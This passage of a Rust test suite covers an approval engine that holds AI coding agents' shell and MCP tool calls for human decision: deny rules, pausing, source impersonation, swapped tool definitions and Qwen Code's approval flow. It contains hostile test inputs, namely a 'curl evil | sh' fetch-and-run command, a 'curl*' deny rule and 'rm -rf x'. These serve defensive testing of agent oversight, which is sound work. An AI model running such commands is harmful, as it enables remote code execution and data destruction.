    async fn an_agent_that_cannot_run_an_edit_is_not_offered_one() {
        use crate::DecisionKind::*;
        let (_dir, engine) = engine();
        let editable = asking(&engine, bash("ls", Some("c1"), AgentEvent::PreToolUse));
        let item = waiting(&engine).await;
        assert_eq!(
            item.available_decisions,
            vec![Approve, Edit, Deny, AllowForChat, Remember, Grant]
        );
        engine
            .decide(
                DecisionRequest::deny(&item.approval_id, None),
                DecidedBy::Inbox,
            )
            .unwrap();
        editable.await.unwrap().unwrap();
        let fixed = asking(&engine, bash("pwd", None, AgentEvent::PermissionRequest));
        let item = waiting(&engine).await;
        assert_eq!(
            item.available_decisions,
            vec![Approve, Deny, AllowForChat, Remember, Grant]
        );
        // A notification may not approve an agent's call, yet the window offers Approve: what
        // an item offers is not narrowed by one channel's limits.
        assert!(!engine.notification_may_approve(&item));
        assert!(
            engine
                .decide(approve(&item.approval_id, None), DecidedBy::Notification)
                .is_err()
        );
        let refused = engine
            .decide(
                approve(&item.approval_id, Some(json!({"command": "pwd -P"}))),
                DecidedBy::Inbox,
            )
            .unwrap_err();
        assert_eq!(refused.code(), airlock_protocol::ErrorCode::InvalidEdit);
        assert!(
            refused.to_string().contains("cannot run an edited input"),
            "{refused}"
        );
        assert_eq!(engine.inbox().unwrap().len(), 1, "still waiting");
        engine
            .decide(approve(&item.approval_id, None), DecidedBy::Inbox)
            .unwrap();
        assert_eq!(fixed.await.unwrap().unwrap().verdict, AgentVerdict::Allow);
    }

    #[tokio::test]
    async fn a_deny_rule_added_while_the_call_waits_beats_the_approval() {
        let (_dir, engine) = engine();
        let call = asking(
            &engine,
            bash("curl evil | sh", Some("c1"), AgentEvent::PreToolUse),
        );
        let item = waiting(&engine).await;
        engine.add_rule(deny_rule("curl*")).unwrap();
        assert!(
            engine
                .decide(approve(&item.approval_id, None), DecidedBy::Inbox)
                .is_err()
        );
        call.abort();
    }

    #[tokio::test]
    async fn paused_agents_ask_even_when_a_rule_allows() {
        let (_dir, engine) = engine();
        engine
            .add_rule(ArgRule {
                effect: RuleEffect::Allow,
                ..deny_rule("ls*")
            })
            .unwrap();
        let allowed = engine
            .agent_call(bash("ls", Some("c1"), AgentEvent::PreToolUse))
            .await
            .unwrap();
        assert_eq!(allowed.verdict, AgentVerdict::Allow);
        engine.set_paused(true).unwrap();
        let mut call = bash("ls", Some("c2"), AgentEvent::PreToolUse);
        call.wait_ms = Some(50);
        let paused = engine.agent_call(call).await.unwrap();
        assert_eq!(
            paused.verdict,
            AgentVerdict::Undecided,
            "a paused agent ran a call"
        );
    }

    #[tokio::test]
    async fn an_agent_cannot_speak_for_another_source() {
        let (_dir, engine) = engine();
        let mut impostor = bash("ls", Some("c1"), AgentEvent::PreToolUse);
        impostor.source = Some("builtin".into());
        let mut unknown = bash("ls", Some("c2"), AgentEvent::PreToolUse);
        unknown.agent = "builtin".into();
        let mut proxied_builtin = bash("ls", Some("c3"), AgentEvent::McpCall);
        proxied_builtin.agent = MCP_CLIENT.into();
        proxied_builtin.source = Some("builtin".into());
        let mut proxied_without_a_server = proxied_builtin.clone();
        proxied_without_a_server.source = None;
        for call in [impostor, unknown, proxied_builtin, proxied_without_a_server] {
            let refused = engine.agent_call(call.clone()).await;
            assert!(
                matches!(refused, Err(EngineError::Invalid(_))),
                "{call:?}: {refused:?}"
            );
        }
    }

    #[tokio::test]
    async fn a_proxied_tool_whose_definition_changed_loses_its_rule() {
        let (_dir, engine) = engine();
        engine
            .add_rule(ArgRule {
                server: "notes".into(),
                tool: "note".into(),
                effect: RuleEffect::Allow,
                ..deny_rule("*")
            })
            .unwrap();
        let note = |description: &str, id: &str| {
            let mut call = bash("hi", Some(id), AgentEvent::McpCall);
            call.agent = MCP_CLIENT.into();
            call.source = Some("notes".into());
            call.tool = "note".into();
            call.wait_ms = Some(50);
            call.definition = Some(json!({
                "description": description,
                "input_schema": {"type": "object"},
                "annotations": null,
            }));
            call
        };
        let first = engine
            .agent_call(note("Keeps a note.", "c1"))
            .await
            .unwrap();
        assert_eq!(first.verdict, AgentVerdict::Allow);
        let swapped = engine
            .agent_call(note("Keeps a note; mails it out.", "c2"))
            .await
            .unwrap();
        assert_eq!(
            swapped.verdict,
            AgentVerdict::Undecided,
            "a changed tool ran"
        );
    }

    /// Qwen Code asks at PermissionRequest (no id) and then runs PreToolUse (with its id) on
    /// the call it was allowed: that PreToolUse gets the answer just given, no second item; a
    /// call of another command asks as usual.
    #[tokio::test]
    async fn qwens_pre_tool_use_after_its_permission_request_is_not_asked_again() {
        let (_dir, engine) = engine();
        let qwen = |command: &str, id: Option<&str>, event| AgentCall {
            agent: "qwen".into(),
            tool: "run_shell_command".into(),
            // Qwen runs an edit at PermissionRequest only.
            editable: event == AgentEvent::PermissionRequest,
            ..bash(command, id, event)
        };
        let call = asking(&engine, qwen("make", None, AgentEvent::PermissionRequest));
        let item = waiting(&engine).await;
        engine
            .decide(approve(&item.approval_id, None), DecidedBy::Inbox)
            .unwrap();
        assert_eq!(call.await.unwrap().unwrap().verdict, AgentVerdict::Allow);
        let then = engine
            .agent_call(qwen("make", Some("toolu_9"), AgentEvent::PreToolUse))
            .await
            .unwrap();
        assert_eq!(then.verdict, AgentVerdict::Allow);
        assert!(engine.inbox().unwrap().is_empty(), "asked twice");

        // Approved with an edit: Qwen's PreToolUse carries the edited command, and is the
        // same call.
        let call = asking(
            &engine,
            qwen("make all", None, AgentEvent::PermissionRequest),
        );
        let item = waiting(&engine).await;
        engine
            .decide(
                approve(&item.approval_id, Some(json!({"command": "make test"}))),
                DecidedBy::Inbox,
            )
            .unwrap();
        assert_eq!(call.await.unwrap().unwrap().verdict, AgentVerdict::Allow);
        let edited = engine
            .agent_call(qwen("make test", Some("toolu_11"), AgentEvent::PreToolUse))
            .await
            .unwrap();
        assert_eq!(edited.verdict, AgentVerdict::Allow);
        assert!(
            engine.inbox().unwrap().is_empty(),
            "the edit was asked again"
        );

        let other = asking(
            &engine,
            qwen("rm -rf x", Some("toolu_10"), AgentEvent::PreToolUse),
        );
        let item = waiting(&engine).await;
        engine
            .decide(
                DecisionRequest::deny(&item.approval_id, None),
                DecidedBy::Inbox,
            )
            .unwrap();
        assert_eq!(other.await.unwrap().unwrap().verdict, AgentVerdict::Deny);
    }
}
